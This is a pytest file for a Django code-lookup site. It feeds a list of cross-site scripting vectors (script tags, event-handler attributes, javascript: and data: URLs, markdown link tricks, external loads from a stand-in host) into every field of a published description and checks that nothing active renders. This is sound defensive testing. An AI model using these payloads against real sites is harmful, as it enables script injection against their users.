"""Hostile markup in every place of a published text: the page shows it as words, or not at all.

Vectors of the kinds that the OWASP cheat sheet on filter evasion collects, in our own choice.
"""

from functools import cache
from html.parser import HTMLParser

import pytest
from django.test import Client

from codelookup.catalog.models import Code
from codelookup.catalog.systems import System
from tests.factories import make_description, make_entry
from tests.metering.visits import member

pytestmark = pytest.mark.django_db

MARK = "evil9"  # in each vector, so that a test can see what became of it
VECTORS = [
    "<script>evil9()</script>",
    "<SCRIPT SRC=https://evil9.example/x.js></SCRIPT>",
    "<script\n>evil9()</script\n>",
    "<scr<script>ipt>evil9()</scr</script>ipt>",
    "<<SCRIPT>evil9();//<</SCRIPT>",
    '"><script>evil9()</script>',
    "'><script>evil9()</script>",
    "</p></div></section><script>evil9()</script>",
    "</title><script>evil9()</script>",
    "</textarea><script>evil9()</script>",
    "--><script>evil9()</script><!--",
    "<![CDATA[<script>evil9()</script>]]>",
    "<img src=x onerror=evil9()>",
    "<img src=x onerror\n=\nevil9()>",
    "<img/src=x/onerror=evil9()>",
    '<IMG """><SCRIPT>evil9()</SCRIPT>">',
    "<img src=javascript:evil9()>",
    "<img dynsrc=javascript:evil9()>",
    "<svg/onload=evil9()>",
    "<svg><script>evil9()</script></svg>",
    "<svg><animate onbegin=evil9() attributeName=x></svg>",
    "<svg><a xlink:href=javascript:evil9()><text>x</text></a></svg>",
    "<math><mi xlink:href=javascript:evil9()>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil9()>",
    "<noscript><p title='</noscript><img src=x onerror=evil9()>'>",
    "<body onload=evil9()>",
    "<body background=javascript:evil9()>",
    "<iframe src=javascript:evil9()></iframe>",
    "<iframe srcdoc='<script>evil9()</script>'></iframe>",
    "<object data=javascript:evil9()></object>",
    "<embed src=javascript:evil9()>",
    "<link rel=stylesheet href=https://evil9.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:evil9()'>",
    "<base href=https://evil9.example/>",
    "<style>@import'https://evil9.example/x.css';</style>",
    "<p style='background:url(javascript:evil9())'>x</p>",
    "<div style='width:expression(evil9())'>x</div>",
    "<form action=javascript:evil9()><input type=submit></form>",
    "<button formaction=javascript:evil9()>x</button>",
    "<input autofocus onfocus=evil9()>",
    "<details open ontoggle=evil9()>x</details>",
    "<video><source onerror=evil9()></video>",
    "<audio src=x onerror=evil9()>",
    "<marquee onstart=evil9()>x</marquee>",
    "<a href=javascript:evil9()>x</a>",
    "<a href='java&#10;script:evil9()'>x</a>",
    "<a href='&#106;&#97;vascript:evil9()'>x</a>",
    "<a onmouseover=evil9()>x</a>",
    "<template><script>evil9()</script></template>",
    "<x contenteditable onblur=evil9()>x</x>",
    "[x](javascript:evil9())",
    "[x](JaVaScRiPt:evil9())",
    "[x](java\tscript:evil9())",
    "[x](data:text/html;base64,ZXZpbDk= 'evil9')",
    "[x](vbscript:evil9())",
    '[x](https://a.example/"onmouseover="evil9())',
    "[x](https://a.example 'evil9\" onmouseover=\"evil9()')",
    "![x](javascript:evil9())",
    '![x" onerror="evil9()](x)',
    "<javascript:evil9()>",
    "[x][1]\n\n[1]: javascript:evil9()",
    "`<script>evil9()</script>`",
    '```evil9"><script>evil9()</script>\nx\n```',
    "| <script>evil9()</script> |\n|---|\n| <img src=x onerror=evil9()> |",
    "{{ evil9 }} {% load evil9 %}",
    "javascript:evil9()",
]
TAGS = frozenset(
    [
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "style",
        "link",
        "meta",
        "base",
        "img",
        "svg",
    ]
)


class Seen(HTMLParser):
    """What a browser would find in a page: how often each tag that acts, and what is wrong."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.acting: dict[str, int] = {}
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in TAGS:
            self.acting[tag] = self.acting.get(tag, 0) + 1
        for name, value in attrs:
            plain = "".join((value or "").split()).lower()
            runs = name in ("href", "src", "action") and plain.startswith(
                ("javascript:", "data:", "vbscript:")
            )
            if runs or name.startswith("on") or name in ("style", "srcdoc"):
                self.wrong.append(f"<{tag} {name}={value!r}>")


def of_page(client: Client, words: str, **kwargs: str) -> Seen:
    code = make_entry("64490", System.CPT, long="").code
    parts = dict.fromkeys(
        ("common", "overview", "clinical_context", "documentation", "compliance"), words
    )
    fields = dict.fromkeys(("title", "author", "review_scope", "service_type"), words[:80])
    source = {"title": words, "publisher": words, "url": words}
    fields |= {"code_set": words[:20], **kwargs}
    make_description(code, **parts, **fields, sources=[source], sites=[words])
    address = f"{code.get_absolute_url()}?lang={fields.get('language', '')}"
    return Seen(client.get(address).content.decode())


@cache
def harmless() -> dict[str, int]:
    """What acts on the same page with words that hold no markup."""
    acting = of_page(member("first@example.org"), "Harmless words.").acting
    Code.objects.all().delete()
    return acting


def test_there_are_enough_vectors() -> None:
    assert len(set(VECTORS)) == len(VECTORS) >= 40
    assert all(MARK in vector for vector in VECTORS)


@pytest.mark.parametrize("vector", VECTORS)
def test_a_hostile_text_adds_nothing_that_acts(vector: str) -> None:
    expected = harmless()
    seen = of_page(member(), vector)
    assert (seen.wrong, seen.acting) == ([], expected)


def test_nor_does_a_hostile_text_in_another_language() -> None:
    seen = of_page(member(), "\n\n".join(VECTORS), language="es")
    assert seen.wrong == []
    assert seen.acting.keys() <= {"script", "form", "input", "button", "link", "meta", "svg"}


def test_the_test_would_see_what_acts() -> None:
    seen = Seen("<img src=x onerror=evil9()><a href='java\nscript:evil9()'>x</a><script></script>")
    assert len(seen.wrong) == 2
    assert seen.acting == {"img": 1, "script": 1}
